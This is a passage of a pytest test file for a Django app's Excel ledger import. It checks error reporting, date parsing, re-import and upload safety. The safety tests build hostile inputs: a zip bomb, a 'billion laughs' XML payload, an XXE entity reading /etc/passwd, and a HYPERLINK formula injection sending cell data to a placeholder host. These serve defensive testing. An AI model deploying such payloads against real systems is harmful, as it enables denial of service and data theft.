"""The ledger import: files refused, every error placed by sheet, row and column, one transaction.

Test files are real .xlsx workbooks written with openpyxl; the plan is read back the way the
upload view reads it (``ledger_plan``), and applied with ``services.ledger_import``.
"""

import datetime
import io
import re
import zipfile

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.db.models import Max
from openpyxl import Workbook, load_workbook

from accounts.models import AuditEvent, Unit, User
from accounts.selectors import chain_verify
from accounts.services import audit_record, unit_create
from rectification import services
from rectification.access import measures_visible_to, permissions_sync_for_problem
from rectification.demo import DEMO_ROUND_TITLE, demo_load
from rectification.excel import exports
from rectification.excel.imports import ImportRefused, ledger_plan, xlsx_check
from rectification.models import (
    Aspect,
    DeadlineCategory,
    InspectionRound,
    Manifestation,
    Measure,
    MeasureGroupObjectPermission,
    MeasureUserObjectPermission,
    Milestone,
    Notification,
    OutboxMessage,
    Problem,
    ProblemGroupObjectPermission,
    ProblemUserObjectPermission,
)
from rectification.services import ledger as ledger_services
from rectification.services.ledger_import import ledger_import

TODAY = datetime.date(2026, 11, 26)

PROBLEM_HEADERS = [
    "问题编号",
    "方面",
    "专项",
    "反馈问题",
    "反馈原文",
    "具体表现",
    "问题类型",
    "整改时限类别",
    "整改时限",
    "牵头领导",
    "责任领导",
    "牵头单位",
    "责任单位",
    "整改目标",
    "验收标准",
]
MEASURE_HEADERS = ["问题编号", "措施编号", "整改措施", "措施类别", "责任单位", "经办人", "完成时限", "预期成果"]


def problem_row(**changes):
    row = {
        "问题编号": "2.1",
        "方面": "方面二",
        "专项": "综合",
        "反馈问题": "公务用车管理不规范",
        "反馈原文": "一些单位公务用车管理不规范，存在私车公养问题。",
        "具体表现": "1. 某局以维修名义报销私车费用\n2. 超编制配备车辆",
        "问题类型": "个性问题",
        "整改时限类别": "限期整改",
        "整改时限": "2026-11-30",
        "牵头领导": "王牵头",
        "责任领导": "李其他",
        "牵头单位": "牵头局",
        "责任单位": "责任局、协办镇",
        "整改目标": "公务用车管理规范有序。",
        "验收标准": "1. 违规费用全部追回\n2. 出台公务用车管理办法",
    }
    row.update(changes)
    return row


def measure_row(**changes):
    row = {
        "问题编号": "2.1",
        "措施编号": "2.1.1",
        "整改措施": "清理超编制车辆",
        "措施类别": "立行立改",
        "责任单位": "责任局",
        "经办人": "张三",
        "完成时限": "2026/10/31",
        "预期成果": "车辆清理报告",
    }
    row.update(changes)
    return row


def xlsx(path, sheets, title_row=True):
    """Write ``{sheet name: (headers, [row dicts])}`` to a real .xlsx; data starts on row 3."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    for name, (headers, rows) in sheets.items():
        sheet = workbook.create_sheet(name)
        if title_row:
            sheet.append([f"{name}（测试）"])
        sheet.append(headers)
        for row in rows:
            sheet.append([row.get(header) for header in headers])
    workbook.save(path)
    workbook.close()
    return path


def ledger_file(tmp_path, problems=(), measures=(), name="ledger.xlsx"):
    sheets = {}
    if problems is not None:
        sheets["问题清单"] = (PROBLEM_HEADERS, list(problems))
    if measures is not None:
        sheets["任务清单"] = (MEASURE_HEADERS, list(measures))
    return xlsx(tmp_path / name, sheets)


def plan_for(world, path, inspection_round=None):
    return ledger_plan(path, inspection_round=inspection_round or world.round)


def messages(plan):
    return [str(issue) for issue in plan.errors]


def counts():
    return (
        Problem.objects.count(),
        Measure.objects.count(),
        Aspect.objects.count(),
        Manifestation.objects.count(),
        Milestone.objects.count(),
    )


@pytest.mark.django_db
class TestImportPlan:
    def test_it_plans_new_problems_and_measures_without_writing(self, world, tmp_path):
        before = counts()
        plan = plan_for(world, ledger_file(tmp_path, [problem_row()], [measure_row(), measure_row(措施编号="2.1.2")]))
        assert plan.errors == []
        assert plan.summary()["problems_created"] == 1
        assert plan.summary()["measures_created"] == 2
        assert plan.new_aspects == ["方面二"]
        assert plan.units["责任局"] == 3
        assert plan.leaders["王牵头"] == 1
        assert counts() == before

    def test_it_saves_everything_through_the_services(self, world, tmp_path):
        plan = plan_for(world, ledger_file(tmp_path, [problem_row()], [measure_row()]))
        ledger_import(actor=world.office, plan=plan)
        problem = Problem.objects.get(round=world.round, code="2.1")
        assert problem.aspect.title == "方面二"
        assert problem.due_date == datetime.date(2026, 11, 30)
        assert [m.text for m in problem.manifestations.all()] == ["某局以维修名义报销私车费用", "超编制配备车辆"]
        assert list(problem.criteria.values_list("text", flat=True)) == ["违规费用全部追回", "出台公务用车管理办法"]
        assert set(problem.responsible_units.values_list("name", flat=True)) == {"责任局", "协办镇"}
        measure = problem.measures.get()
        assert (measure.code, measure.owner_unit, measure.due_date) == (
            "2.1.1",
            world.resp_unit,
            datetime.date(2026, 10, 31),
        )
        assert measure.start_date == world.round.feedback_date
        # Object permissions were synced by the services: the owner unit sees its new measure.
        assert measure in measures_visible_to(world.resp_staff)
        assert measure not in measures_visible_to(world.outsider)
        assert AuditEvent.objects.filter(action="problem.create", target_id=str(problem.pk)).exists()
        assert AuditEvent.objects.filter(action="excel.import").count() == 1

    def test_it_understands_the_ways_dates_are_written(self, world, tmp_path):
        rows = [
            problem_row(问题编号="2.1", 整改时限="2026.11.30"),
            problem_row(问题编号="2.2", 整改时限="2026年11月30日"),
            problem_row(问题编号="2.3", 整改时限="11月底"),
            problem_row(问题编号="2.4", 整改时限=datetime.datetime(2026, 11, 30)),
            problem_row(问题编号="2.5", 整改时限类别="", 整改时限="长期坚持"),
        ]
        plan = plan_for(world, ledger_file(tmp_path, rows, []))
        assert plan.errors == []
        dues = {d.code: (d.values["deadline_category"], d.values["due_date"]) for d in plan.problems}
        for code in ("2.1", "2.2", "2.3", "2.4"):
            assert dues[code] == (DeadlineCategory.BY_DATE, datetime.date(2026, 11, 30))
        assert dues["2.5"] == (DeadlineCategory.LONG_TERM, None)

    def test_it_reads_month_end_in_the_year_of_the_report_deadline(self, world, tmp_path):
        later = services.round_create(
            actor=world.office,
            title="跨年轮次",
            inspection_team="省委第二巡视组",
            feedback_date=datetime.date(2026, 11, 20),
            report_deadline=datetime.date(2027, 2, 20),
            track_offices={"general": world.lead_unit},
        )
        plan = plan_for(world, ledger_file(tmp_path, [problem_row(整改时限="1月底")], []), later)
        assert plan.problems[0].values["due_date"] == datetime.date(2027, 1, 31)

    def test_it_gives_long_term_measures_the_report_deadline(self, world, tmp_path):
        plan = plan_for(
            world,
            ledger_file(
                tmp_path,
                [problem_row(整改时限类别="长期坚持", 整改时限="长期坚持")],
                [measure_row(完成时限="长期坚持")],
            ),
        )
        assert plan.errors == []
        assert plan.measures[0].values["due_date"] == world.round.report_deadline
        assert "长期坚持" in str(plan.warnings[0])

    def test_a_long_term_measure_of_a_problem_with_an_earlier_date_takes_that_date(self, world, tmp_path):
        plan = plan_for(
            world, ledger_file(tmp_path, [problem_row(整改时限="2026-11-30")], [measure_row(完成时限="长期坚持")])
        )
        assert plan.errors == []
        assert plan.measures[0].values["due_date"] == datetime.date(2026, 11, 30) < world.round.report_deadline
        assert "按2026-11-30（整改报告报送期限与问题整改时限中较早者）" in str(plan.warnings[0])


@pytest.mark.django_db
class TestImportErrors:
    # Unknown names no longer stop the import (tests/test_excel_names.py): they are kept as pending,
    # and the preview warns at their first cell, with the likely match and its confidence.
    def test_it_names_the_unknown_unit_and_suggests_the_right_one(self, world, tmp_path):
        unit_create(actor=None, name="区财政局", level=Unit.Level.DEPARTMENT, kind=Unit.Kind.GOVERNMENT)
        measures = [measure_row(), measure_row(措施编号="2.1.2", 责任单位="区财政")]
        plan = plan_for(world, ledger_file(tmp_path, [problem_row()], measures))
        assert messages(plan) == []
        assert [str(w) for w in plan.warnings if "区财政" in str(w)] == [
            "工作表“任务清单”第4行E列（责任单位）：系统中没有单位“区财政”，导入后登记为待开通单位；"
            "是否为“区财政局”（80%）？如是，请在下方“单位和领导的名称”中确认。"
        ]
        assert str(plan.measures[1].values["owner_unit"]) == "区财政（待开通）"

    @pytest.mark.parametrize(
        "written, registered, status",
        [
            ("财政局", "区财政局", "prefix"),
            ("区政府办公室(外事办)", "区政府办公室（外事办）", "exact"),
            ("区 财政局", "区财政局", "exact"),
        ],
    )
    def test_it_reads_a_missing_district_prefix_or_other_brackets(self, world, tmp_path, written, registered, status):
        unit = unit_create(actor=None, name=registered, level=Unit.Level.DEPARTMENT, kind=Unit.Kind.GOVERNMENT)
        plan = plan_for(world, ledger_file(tmp_path, [problem_row(牵头单位=written)], []))
        assert messages(plan) == []
        assert plan.problems[0].values["lead_unit"] == unit
        assert [row.status for row in plan.names.listed() if row.written == written] == [status]

    def test_it_names_the_unknown_leader_and_suggests_by_post(self, world, tmp_path):
        world.leader.title = "常务副区长"
        world.leader.save()
        plan = plan_for(world, ledger_file(tmp_path, [problem_row(牵头领导="常务副区长")], []))
        assert messages(plan) == []
        assert (
            "工作表“问题清单”第3行J列（牵头领导）：系统中没有区领导“常务副区长”，导入后登记为待开通区领导；"
            "是否为“王牵头”（80%）？如是，请在下方“单位和领导的名称”中确认。"
        ) in [str(w) for w in plan.warnings]
        assert plan.problems[0].values["lead_official"] != world.leader

    def test_it_refuses_duplicate_problem_codes(self, world, tmp_path):
        rows = [problem_row(), problem_row(问题编号="2.2"), problem_row()]
        plan = plan_for(world, ledger_file(tmp_path, rows, []))
        assert messages(plan) == ["工作表“问题清单”第5行A列（问题编号）：问题编号“2.1”重复，第3行已有该编号。"]

    def test_it_refuses_duplicate_measure_codes(self, world, tmp_path):
        plan = plan_for(world, ledger_file(tmp_path, [problem_row()], [measure_row(), measure_row()]))
        assert messages(plan) == [
            "工作表“任务清单”第4行B列（措施编号）：措施编号“2.1.1”在问题“2.1”下重复，第3行已有该编号。"
        ]

    def test_it_refuses_missing_required_cells(self, world, tmp_path):
        rows = [problem_row(牵头单位=None, 问题类型="")]
        plan = plan_for(world, ledger_file(tmp_path, rows, [measure_row(整改措施=" ")]))
        assert messages(plan) == [
            "工作表“问题清单”第3行G列（问题类型）：不能为空。",
            "工作表“问题清单”第3行L列（牵头单位）：不能为空。",
            "工作表“任务清单”第3行C列（整改措施）：不能为空。",
        ]

    def test_it_refuses_a_missing_column_once_per_sheet(self, world, tmp_path):
        headers = [h for h in PROBLEM_HEADERS if h != "牵头领导"]
        path = xlsx(tmp_path / "a.xlsx", {"问题清单": (headers, [problem_row(), problem_row(问题编号="2.2")])})
        plan = plan_for(world, path)
        assert messages(plan) == ["工作表“问题清单”：缺少“牵头领导”列，无法新建问题“2.1”、问题“2.2”。"]

    def test_it_refuses_bad_dates_with_their_position(self, world, tmp_path):
        rows = [problem_row(整改时限="下个月"), problem_row(问题编号="2.2", 整改时限="2026-02-30")]
        measures = [measure_row(完成时限=46326), measure_row(措施编号="2.1.2", 完成时限="2026-09-01")]
        plan = plan_for(world, ledger_file(tmp_path, rows, measures))
        assert messages(plan) == [
            "工作表“问题清单”第3行I列（整改时限）：无法识别的日期“下个月”，"
            "请写成2026-10-31、2026/10/31、2026.10.31、2026年10月31日、10月底或“长期坚持”",
            "工作表“问题清单”第4行I列（整改时限）：日期“2026-02-30”不存在",
            "工作表“任务清单”第3行G列（完成时限）：“46326”是数字而不是日期，"
            "请写成2026-10-31、2026/10/31、2026.10.31、2026年10月31日、10月底或“长期坚持”，或把单元格设为日期格式",
        ]

    def test_it_refuses_a_due_date_before_the_feedback_date(self, world, tmp_path):
        plan = plan_for(world, ledger_file(tmp_path, [problem_row()], [measure_row(完成时限="2026-08-01")]))
        assert messages(plan) == [
            "工作表“任务清单”第3行G列（完成时限）：完成时限2026-08-01早于本轮反馈日期2026-09-01，请核对。"
        ]

    def test_it_refuses_a_date_that_contradicts_the_category(self, world, tmp_path):
        plan = plan_for(world, ledger_file(tmp_path, [problem_row(整改时限类别="限期整改", 整改时限="长期坚持")], []))
        assert "与整改时限类别“限期整改”不一致" in messages(plan)[0]

    def test_it_refuses_a_by_date_problem_without_a_date(self, world, tmp_path):
        plan = plan_for(world, ledger_file(tmp_path, [problem_row(整改时限="")], []))
        assert messages(plan) == ["工作表“问题清单”第3行I列（整改时限）：限期整改的问题必须填写整改时限。"]

    def test_it_refuses_an_unknown_choice_listing_the_valid_ones(self, world, tmp_path):
        plan = plan_for(world, ledger_file(tmp_path, [problem_row()], [measure_row(措施类别="马上办")]))
        assert messages(plan) == [
            "工作表“任务清单”第3行D列（措施类别）：“马上办”不是有效的措施类别，"
            "应为：立行立改、专项整治、建章立制、追责问责、追缴资金、教育警示。"
        ]

    def test_it_refuses_measures_of_an_unknown_problem(self, world, tmp_path):
        plan = plan_for(world, ledger_file(tmp_path, [], [measure_row(问题编号="9.9")]))
        assert messages(plan) == [
            "工作表“任务清单”第3行A列（问题编号）：找不到问题编号“9.9”：本文件的问题清单和本轮次台账中都没有这个问题。"
        ]

    def test_it_accepts_measures_of_a_problem_already_in_the_ledger(self, world, tmp_path):
        plan = plan_for(world, ledger_file(tmp_path, None, [measure_row(问题编号="1.1", 措施编号="1.1.3")]))
        assert plan.errors == []
        assert plan.measures[0].problem == world.problem

    def test_it_refuses_a_workbook_without_a_ledger(self, world, tmp_path):
        path = xlsx(tmp_path / "a.xlsx", {"说明": (["填表说明"], [{"填表说明": "请按要求填写"}])})
        assert messages(plan_for(world, path)) == [
            "没有找到台账：工作簿中没有表头含“问题编号”“反馈问题”或“整改措施”的工作表。"
        ]

    def test_it_warns_when_a_code_was_typed_as_a_number(self, world, tmp_path):
        plan = plan_for(world, ledger_file(tmp_path, [problem_row(问题编号=2.1)], [measure_row(问题编号=2.1)]))
        assert plan.errors == []
        assert plan.problems[0].code == "2.1"
        assert "编号是数字格式，已按“2.1”读取" in str(plan.warnings[0])


@pytest.mark.django_db
class TestMergedSingleSheet:
    HEADERS = [*PROBLEM_HEADERS[:13], "措施编号", "整改措施", "措施类别", "责任单位", "经办人", "完成时限"]

    def _workbook(self, tmp_path):
        """Problem cells merged down across their measures, 方面 merged across both problems."""
        workbook = Workbook()
        sheet = workbook.active
        sheet.title = "整改台账"
        sheet.append(["示范区巡视反馈问题整改台账"])
        sheet.append(self.HEADERS)
        p1 = problem_row()
        p2 = problem_row(问题编号="2.2", 反馈问题="会议文件过多", 具体表现="全年发文超计划")
        rows = [
            ({**p1}, ["2.1.1", "清理超编制车辆", "立行立改", "责任局", "张三", "2026-10-31"]),
            (None, ["2.1.2", "出台公务用车管理办法", "建章立制", "牵头局", "李四", "2026年11月30日"]),
            ({**p2, "方面": None}, ["2.2.1", "精简文件会议", "专项整治", "协办镇", "王五", "11月底"]),
        ]
        for problem, measure in rows:
            problem_cells = [problem.get(h) for h in PROBLEM_HEADERS[:13]] if problem else [None] * 13
            sheet.append(problem_cells + measure)
        for column in range(1, 14):
            sheet.merge_cells(start_row=3, end_row=4, start_column=column, end_column=column)
        sheet.merge_cells(start_row=3, end_row=5, start_column=2, end_column=2)
        path = tmp_path / "merged.xlsx"
        workbook.save(path)
        workbook.close()
        return path

    def test_it_accepts_problem_cells_merged_across_measure_rows(self, world, tmp_path):
        plan = plan_for(world, self._workbook(tmp_path))
        assert plan.errors == []
        assert plan.layout.startswith("单张工作表")
        assert [(d.problem_code, d.code) for d in plan.measures] == [
            ("2.1", "2.1.1"),
            ("2.1", "2.1.2"),
            ("2.2", "2.2.1"),
        ]
        ledger_import(actor=world.office, plan=plan)
        second = Problem.objects.get(round=world.round, code="2.2")
        assert second.aspect.title == "方面二"
        assert list(second.measures.values_list("owner_unit__name", "due_date")) == [
            ("协办镇", datetime.date(2026, 11, 30))
        ]
        first = Problem.objects.get(round=world.round, code="2.1")
        assert set(first.responsible_units.values_list("name", flat=True)) == {"责任局", "协办镇"}
        assert first.measures.get(code="2.1.2").owner_unit == world.lead_unit

    def test_it_refuses_repeated_problem_cells_that_disagree(self, world, tmp_path):
        headers = [*PROBLEM_HEADERS, "措施编号", "整改措施", "措施类别", "措施责任单位", "完成时限"]
        first = {
            **problem_row(),
            "措施编号": "2.1.1",
            "整改措施": "甲",
            "措施类别": "立行立改",
            "措施责任单位": "责任局",
            "完成时限": "2026-10-31",
        }
        second = {
            **problem_row(牵头单位="责任局"),
            "措施编号": "2.1.2",
            "整改措施": "乙",
            "措施类别": "立行立改",
            "措施责任单位": "责任局",
            "完成时限": "2026-10-31",
        }
        path = xlsx(tmp_path / "a.xlsx", {"台账": (headers, [first, second])})
        assert messages(plan_for(world, path)) == [
            "工作表“台账”第4行L列（牵头单位）：与第3行（问题“2.1”）的“牵头单位”不一致；同一问题的各行应合并单元格或填写相同内容。"
        ]


@pytest.mark.django_db
class TestFileChecks:
    def _check(self, content):
        xlsx_check(io.BytesIO(content), size=len(content))

    def test_it_refuses_a_file_that_is_not_xlsx(self):
        with pytest.raises(ImportRefused, match="不是 Excel 工作簿"):
            self._check("问题编号,反馈问题\n1.1,测试\n".encode())

    def test_it_refuses_an_old_xls_file(self):
        with pytest.raises(ImportRefused, match=r"旧版 \.xls"):
            self._check(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512)

    def test_it_refuses_a_zip_that_is_not_a_workbook(self):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("readme.txt", "hello")
        with pytest.raises(ImportRefused, match="缺少工作簿结构"):
            self._check(buffer.getvalue())

    def test_it_refuses_a_zip_bomb_before_parsing_it(self, monkeypatch):
        def parse(*args, **kwargs):
            raise AssertionError("openpyxl must not see a zip bomb")

        monkeypatch.setattr("rectification.excel.reading.load_workbook", parse)
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
            archive.writestr("[Content_Types].xml", "<Types/>")
            archive.writestr("xl/workbook.xml", "<workbook/>")
            with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as entry:
                for _ in range(80):
                    entry.write(b"<c>0</c>" * (1024 * 128))
        content = buffer.getvalue()
        assert len(content) < 1024 * 1024  # 80 MB of XML in well under a megabyte
        with pytest.raises(ImportRefused, match="解压后超过 60 MB"):
            self._check(content)

    def test_it_refuses_a_zip_with_too_many_entries(self):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("[Content_Types].xml", "<Types/>")
            archive.writestr("xl/workbook.xml", "<workbook/>")
            for index in range(300):
                archive.writestr(f"xl/media/{index}.bin", "x")
        with pytest.raises(ImportRefused, match="超过 200 个的上限"):
            self._check(buffer.getvalue())

    def test_it_refuses_a_file_over_the_size_limit(self):
        with pytest.raises(ImportRefused, match="超过 10 MB"):
            xlsx_check(io.BytesIO(b"PK\x03\x04"), size=11 * 1024 * 1024)

    def test_it_refuses_xml_entity_expansion(self, world, tmp_path):
        """defusedxml is installed, so openpyxl refuses a "billion laughs" workbook."""
        path = ledger_file(tmp_path, [problem_row()], [])
        with zipfile.ZipFile(path) as source:
            parts = {name: source.read(name) for name in source.namelist()}
        laughs = (
            b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        )
        parts["xl/workbook.xml"] = laughs + parts["xl/workbook.xml"].split(b"?>", 1)[-1]
        bomb = tmp_path / "laughs.xlsx"
        with zipfile.ZipFile(bomb, "w") as target:
            for name, content in parts.items():
                target.writestr(name, content)
        # Refused at upload and again when read, whether or not the installed XML parser
        # (lxml, brought in by python-docx) would have expanded the entities.
        with pytest.raises(ImportRefused, match="无法读取该 Excel 文件：文件内部含有 Excel 从不写入的 XML 实体声明"):
            self._check(bomb.read_bytes())
        with pytest.raises(ImportRefused, match="无法读取该 Excel 文件"):
            plan_for(world, bomb)

    @pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le"])
    def test_it_refuses_an_entity_declared_in_a_worksheet(self, tmp_path, encoding):
        path = ledger_file(tmp_path, [problem_row()], [])
        with zipfile.ZipFile(path) as source:
            parts = {name: source.read(name) for name in source.namelist()}
        sheet = next(name for name in parts if name.startswith("xl/worksheets/"))
        # The declaration far into the part, across the scanner's chunk boundary.
        padding = "<!--" + " " * (300 * 1024) + "-->"
        prolog = f'<?xml version="1.0"?>{padding}<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        parts[sheet] = prolog.encode(encoding) + parts[sheet].split(b"?>", 1)[-1]
        bomb = tmp_path / "entity.xlsx"
        with zipfile.ZipFile(bomb, "w") as target:
            for name, content in parts.items():
                target.writestr(name, content)
        with pytest.raises(ImportRefused, match="XML 实体声明"):
            self._check(bomb.read_bytes())

    def test_it_accepts_a_real_workbook(self, tmp_path):
        path = ledger_file(tmp_path, [problem_row()], [])
        self._check(path.read_bytes())

    def test_it_refuses_a_sheet_over_the_row_cap(self, world, tmp_path, monkeypatch):
        monkeypatch.setattr("rectification.excel.reading.MAX_ROWS", 5)
        rows = [problem_row(问题编号=f"2.{n}") for n in range(1, 8)]
        with pytest.raises(ImportRefused, match="超过 5 行数据的上限"):
            plan_for(world, ledger_file(tmp_path, rows, []))

    def test_it_refuses_a_sheet_over_the_column_cap(self, world, tmp_path, monkeypatch):
        monkeypatch.setattr("rectification.excel.reading.MAX_COLUMNS", 10)
        with pytest.raises(ImportRefused, match="超过 10 列的上限"):
            plan_for(world, ledger_file(tmp_path, [problem_row()], []))


@pytest.mark.django_db
class TestFormulaInjection:
    ATTACK = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'

    def test_it_stores_a_formula_as_text_and_exports_it_inert(self, world, tmp_path):
        path = ledger_file(
            tmp_path, [problem_row(反馈问题="placeholder", 整改目标="+1-2")], [measure_row(经办人="@SUM(1)")]
        )
        # Write the attack as a text cell, the way it arrives when typed as '=... in Excel.
        workbook = load_workbook(path)
        cell = workbook["问题清单"]["D3"]
        cell.value = self.ATTACK
        cell.data_type = "s"
        workbook.save(path)
        workbook.close()

        plan = plan_for(world, path)
        assert plan.errors == []
        ledger_import(actor=world.office, plan=plan)
        problem = Problem.objects.get(round=world.round, code="2.1")
        assert problem.title == self.ATTACK
        assert problem.goal == "+1-2"

        content = exports.ledger_export(user=world.office, inspection_round=world.round, today=TODAY).content
        exported = load_workbook(io.BytesIO(content))
        cells = {c.value: c for row in exported["问题清单"].iter_rows(min_row=3) for c in row if c.value}
        title = cells["'" + self.ATTACK]
        assert title.data_type == "s" and not title.value.startswith("=")
        assert cells["'+1-2"].data_type == "s"
        handler = next(c for row in exported["任务清单"].iter_rows(min_row=3) for c in row if c.value == "'@SUM(1)")
        assert handler.data_type == "s"
        assert all(c.data_type != "f" for ws in exported for row in ws.iter_rows() for c in row)

    def test_it_reads_its_own_quoted_text_back_unchanged(self, world, tmp_path):
        path = ledger_file(tmp_path, [problem_row(反馈问题="'=1+1", 整改目标="''引号开头")], [])
        plan = plan_for(world, path)
        assert plan.problems[0].values["title"] == "=1+1"
        assert plan.problems[0].values["goal"] == "'引号开头"


@pytest.mark.django_db
class TestImportTransaction:
    def test_it_writes_nothing_when_a_save_fails_in_the_middle(self, world, tmp_path, monkeypatch):
        measures = [measure_row(措施编号=f"2.1.{n}") for n in range(1, 5)]
        plan = plan_for(world, ledger_file(tmp_path, [problem_row(), problem_row(问题编号="2.2")], measures))
        assert plan.errors == []
        written = []

        def failing(measures):
            # The last step of the measures: problems, measures, milestones and audit rows are written.
            written.append((Problem.objects.filter(code__in=["2.1", "2.2"]).count(), len(measures)))
            raise ValidationError("模拟通知保存失败")

        monkeypatch.setattr(ledger_services, "notify_new_assignments", failing)
        before = counts()
        audits = AuditEvent.objects.count()
        with pytest.raises(ValidationError):
            ledger_import(actor=world.office, plan=plan)
        assert written == [(2, 4)]
        assert counts() == before
        assert AuditEvent.objects.count() == audits

    def test_it_refuses_to_apply_a_plan_with_errors(self, world, tmp_path):
        plan = plan_for(world, ledger_file(tmp_path, [problem_row(牵头单位="")], []))
        with pytest.raises(ValidationError):
            ledger_import(actor=world.office, plan=plan)

    def test_it_lets_only_the_office_apply(self, world, tmp_path):
        plan = plan_for(world, ledger_file(tmp_path, [problem_row()], []))
        with pytest.raises(PermissionDenied):
            ledger_import(actor=world.provincial, plan=plan)
        assert not Problem.objects.filter(code="2.1").exists()


@pytest.mark.django_db
class TestReimport:
    def test_it_updates_by_code_instead_of_duplicating(self, world, tmp_path):
        first = ledger_file(tmp_path, [problem_row()], [measure_row(), measure_row(措施编号="2.1.2")], name="a.xlsx")
        ledger_import(actor=world.office, plan=plan_for(world, first))
        before = counts()

        changed = [problem_row(反馈问题="公务用车管理仍不规范", 整改时限="2026-12-20", 牵头单位="责任局")]
        measures = [measure_row(责任单位="无关局", 经办人="赵六"), measure_row(措施编号="2.1.2")]
        plan = plan_for(world, ledger_file(tmp_path, changed, measures, name="b.xlsx"))
        assert plan.summary() == {
            "problems_created": 0,
            "problems_updated": 1,
            "problems_unchanged": 0,
            "measures_created": 0,
            "measures_updated": 1,
            "measures_unchanged": 1,
            "aspects_created": 0,
        }
        assert {c.label for c in plan.problems[0].changes} == {"反馈问题", "整改时限", "牵头单位"}
        ledger_import(actor=world.office, plan=plan)

        assert counts() == before
        problem = Problem.objects.get(round=world.round, code="2.1")
        assert (problem.title, problem.due_date, problem.lead_unit) == (
            "公务用车管理仍不规范",
            datetime.date(2026, 12, 20),
            world.resp_unit,
        )
        measure = problem.measures.get(code="2.1.1")
        assert (measure.owner_unit, measure.handler_name) == (world.other_unit, "赵六")
        # Access followed the new assignment in the same transaction.
        assert measure in measures_visible_to(world.outsider)
        actions = set(AuditEvent.objects.values_list("action", flat=True))
        assert {"problem.assign", "problem.update", "measure.reassign"} <= actions

    def test_it_leaves_problems_missing_from_the_file_alone(self, world, tmp_path):
        plan = plan_for(world, ledger_file(tmp_path, [problem_row()], []))
        assert plan.untouched_problems == 1
        ledger_import(actor=world.office, plan=plan)
        assert Problem.objects.filter(pk=world.problem.pk).exists()

    def test_it_warns_that_milestones_of_existing_measures_are_kept(self, world, tmp_path):
        headers = [*MEASURE_HEADERS, "时间节点"]
        row = measure_row(
            问题编号="1.1",
            措施编号="1.1.1",
            整改措施=world.resp_measure.text,
            措施类别="追缴资金",
            完成时限="2026-11-30",
            经办人="",
            预期成果="",
            时间节点="2026-10-01 完成清理",
        )
        path = xlsx(tmp_path / "a.xlsx", {"任务清单": (headers, [row])})
        plan = plan_for(world, path)
        assert plan.errors == []
        assert plan.measures[0].action == "unchanged"
        assert "时间节点不随导入更新" in str(plan.warnings[0])


@pytest.mark.django_db
class TestRoundTrip:
    def test_it_reimports_the_exported_demo_ledger_into_an_empty_round_with_the_same_content(self, tmp_path):
        demo_load(today=TODAY)
        office = User.objects.get(username="zgb")
        demo = InspectionRound.objects.get(title=DEMO_ROUND_TITLE)
        first = exports.ledger_export(user=office, inspection_round=demo, today=TODAY).content

        empty = services.round_create(
            actor=office,
            title="导入验证轮次",
            inspection_team=demo.inspection_team,
            feedback_date=demo.feedback_date,
            report_deadline=demo.report_deadline,
            previous_round=demo.previous_round,
            track_offices={track.kind: track.office_unit for track in demo.tracks.all()},
        )
        # Campaigns carry a lead unit and a description the ledger does not, so they are set up
        # with the round (as the office does in 数据维护) and the ledger names them.
        for campaign in demo.campaigns.all():
            services.campaign_create(
                actor=office, inspection_round=empty, name=campaign.name, lead_unit=campaign.lead_unit
            )
        path = tmp_path / "demo.xlsx"
        path.write_bytes(first)
        plan = ledger_plan(path, inspection_round=empty)
        assert plan.errors == []
        assert plan.summary()["problems_created"] == demo.problems.count()
        ledger_import(actor=office, plan=plan)
        second = exports.ledger_export(user=office, inspection_round=empty, today=TODAY).content

        before, after = load_workbook(io.BytesIO(first)), load_workbook(io.BytesIO(second))
        assert before.sheetnames == after.sheetnames == ["问题清单", "任务清单", "责任清单"]
        for name, columns in (
            ("问题清单", exports.cols.LEDGER_PROBLEM_COLUMNS),
            ("任务清单", exports.cols.LEDGER_MEASURE_COLUMNS),
        ):
            imported = [index for index, column in enumerate(columns) if column.field]
            rows_before = [
                tuple(row[i] for i in imported) for row in before[name].iter_rows(min_row=2, values_only=True)
            ]
            rows_after = [tuple(row[i] for i in imported) for row in after[name].iter_rows(min_row=2, values_only=True)]
            assert len(rows_before) > 30
            assert rows_after == rows_before
            assert {str(r) for r in before[name].merged_cells.ranges} == {
                str(r) for r in after[name].merged_cells.ranges
            }
        # The workflow states are not part of the ledger: the new round starts from the beginning.
        states = {row[-1] for row in after["任务清单"].iter_rows(min_row=3, values_only=True)}
        assert states == {"未申请"}
        # 责任清单: the same people and units with the same numbers of problems and measures.
        totals = lambda ws: [(r[0], r[1], r[2], r[5]) for r in ws.iter_rows(min_row=3, values_only=True)]  # noqa: E731
        assert totals(after["责任清单"]) == totals(before["责任清单"])

        # Importing the second export again changes nothing.
        path.write_bytes(second)
        again = ledger_plan(path, inspection_round=empty)
        assert again.summary()["problems_unchanged"] == demo.problems.count()
        assert again.summary()["measures_unchanged"] == Measure.objects.filter(problem__round=demo).count()


def _round_like(world, title):
    """A round set up as the world's: the same tracks, aspect 方面一 and problem 1.1 with one measure."""
    inspection_round = services.round_create(
        actor=world.office,
        title=title,
        inspection_team="省委第一巡视组",
        feedback_date=world.round.feedback_date,
        report_deadline=world.round.report_deadline,
        track_offices={track.kind: track.office_unit for track in world.round.tracks.all()},
    )
    aspect = services.aspect_create(actor=world.office, inspection_round=inspection_round, seq=1, title="方面一")
    problem = services.problem_create(
        actor=world.office,
        inspection_round=inspection_round,
        aspect=aspect,
        track=inspection_round.tracks.get(kind="general"),
        code="1.1",
        title="违规发放津补贴",
        text="原文",
        problem_type=Problem.ProblemType.SPECIFIC,
        deadline_category=DeadlineCategory.BY_DATE,
        due_date=datetime.date(2026, 12, 31),
        lead_official=world.leader,
        lead_unit=world.lead_unit,
        responsible_units=[world.resp_unit],
    )
    services.measure_create(
        actor=world.office,
        problem=problem,
        code="1.1.1",
        text="清理",
